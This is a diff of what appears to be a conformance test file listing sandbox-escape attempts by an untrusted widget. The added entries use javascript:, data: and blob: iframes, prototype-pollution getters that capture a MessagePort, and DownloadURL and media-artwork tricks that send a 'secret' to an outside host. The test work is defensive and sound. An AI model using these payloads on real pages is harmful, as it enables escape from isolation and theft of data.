@@ -1,3 +1,6 @@
+import { DOCUMENT_ATTACKS } from "./document_attacks.ts";
+import { NONCE_ATTACKS } from "./nonce_attacks.ts";
+
 /** What a widget tries that the rules forbid. Each is the body of an async function; it returns whether it succeeded. */
 export const ATTACKS: { readonly [name: string]: string } = {
   "local storage by a destructured window": `
@@ -196,6 +199,77 @@ export const ATTACKS: { readonly [name: string]: string } = {
       script.onerror = () => resolve(false);
       document.head.append(script);
     });`,
+  ...NONCE_ATTACKS,
+  ...DOCUMENT_ATTACKS,
+  "frames that run addresses of code": `
+    const code = "<script>parent.postMessage('address', '*')</" + "script>";
+    const addresses = ["javascript:parent.postMessage('address', '*')", "data:text/html," + encodeURIComponent(code),
+      URL.createObjectURL(new Blob([code], { type: "text/html" })), "about:srcdoc", "/__tck/v1/canvas.html"];
+    return await new Promise((resolve) => {
+      addEventListener("message", ({ data }) => (data === "address" || data?.type === "tck:canvas-frame") && resolve(true));
+      for (const src of addresses) element.append(Object.assign(document.createElement("iframe"), { src }));
+      setTimeout(() => resolve(false), 500);
+    });`,
+  "a stylesheet with the hash of the allowed style": `
+    const bytes = new Uint8Array(await crypto.subtle.digest("SHA-384", new ArrayBuffer(0)));
+    const integrity = "sha384-" + btoa(String.fromCharCode(...bytes));
+    for (const rel of ["stylesheet", "preload"]) {
+      const link = document.createElement("link");
+      Object.assign(link, { rel, as: "style", integrity, crossOrigin: "anonymous", href: elsewhere + "/hash-" + rel });
+      document.head.append(link);
+    }
+    return false;`,
+  "pictures of the media that are playing": `
+    const context = new AudioContext();
+    const audio = new Audio();
+    const destination = context.createMediaStreamDestination();
+    const tone = context.createOscillator();
+    tone.connect(destination);
+    tone.start();
+    audio.srcObject = destination.stream;
+    audio.play().catch(() => {});
+    navigator.mediaSession.playbackState = "playing";
+    navigator.mediaSession.metadata = new MediaMetadata({
+      title: "secret", artwork: [{ src: elsewhere + "/artwork.png?secret", sizes: "512x512", type: "image/png" }],
+    });
+    return true;`,
+  "an address to download in what is dragged": `
+    let calls = 0;
+    const format = { toString: () => ["text/plain", "DownloadURL"][calls++] ?? "DownloadURL" };
+    const { exec } = RegExp.prototype;
+    const transfer = new DataTransfer();
+    RegExp.prototype.exec = () => null;
+    try {
+      transfer.setData("DownloadURL", "text/plain:secret:" + elsewhere + "/dragged?secret");
+      transfer.setData(" downloadurl", "text/plain:secret:" + elsewhere + "/dragged?secret");
+      transfer.items.add("text/plain:secret:" + elsewhere + "/dragged?secret", "downloadURL");
+      transfer.setData(format, "text/plain:secret:" + elsewhere + "/dragged?secret");
+    } finally {
+      RegExp.prototype.exec = exec;
+    }
+    return [...transfer.types].some((type) => type.toLowerCase().includes("downloadurl"));`,
+  "the port to the page by accessors of every object": `
+    const names = ["port", "ports", "send", "post", "postMessage", "request", "onRun", "signal", "capture", "once", "passive",
+      "get", "set", "value", "then", "detail", "transfer", "source", "session", "host", "control", "loadBatches", "onCard",
+      "defaultProps", "ref", "key", "props", "stateNode", "return", "memoizedState", "constructor", "toJSON", "default"];
+    let isTaken = false;
+    const note = (value) => void (isTaken ||= value instanceof MessagePort);
+    const own = names.filter((name) => !(name in Object.prototype));
+    for (const name of own) {
+      Object.defineProperty(Object.prototype, name, {
+        configurable: true,
+        get() { note(this); for (const key of Reflect.ownKeys(this ?? {})) try { note(this[key]); } catch {} },
+        set(value) { note(this); note(value); Reflect.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true }); },
+      });
+    }
+    const { bind, call, apply } = Function.prototype;
+    const watch = (native) => function (...args) { note(this); note(args[0]); return Reflect.apply(native, this, args); };
+    Object.assign(Function.prototype, { bind: watch(bind), call: watch(call), apply: watch(apply) });
+    // Until the page has asked at least once whether the frame responds.
+    await new Promise((resolve) => setTimeout(resolve, 2500));
+    Object.assign(Function.prototype, { bind, call, apply });
+    for (const name of own) delete Object.prototype[name];
+    return isTaken;`,
   "the port to the page by an accessor": `
     const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
     const { postMessage } = MessagePort.prototype;
@@ -263,7 +337,9 @@ export const ATTACKS: { readonly [name: string]: string } = {
   "a frame with markup of its own": `
     const frame = document.createElement("iframe");
     const address = URL.createObjectURL(new Blob(["parent.postMessage('secret', '*')"], { type: "text/javascript" }));
+    const data = "data:text/javascript,parent.postMessage(%22secret%22,%22*%22)";
     frame.srcdoc = "<script src='" + address + "'></" + "script><script type=module src='" + address + "'></" + "script>" +
+      "<script src='" + data + "'></" + "script><script type=module src='" + data + "'></" + "script>" +
       "<meta http-equiv=refresh content='1;url=" + elsewhere + "/srcdoc'><img src='" + elsewhere + "/srcdoc-image'>" +
       "<link rel=prefetch href='" + elsewhere + "/srcdoc-prefetch'><iframe src='" + elsewhere + "/srcdoc-frame'></iframe>";
     const hasRun = await new Promise((resolve) => {
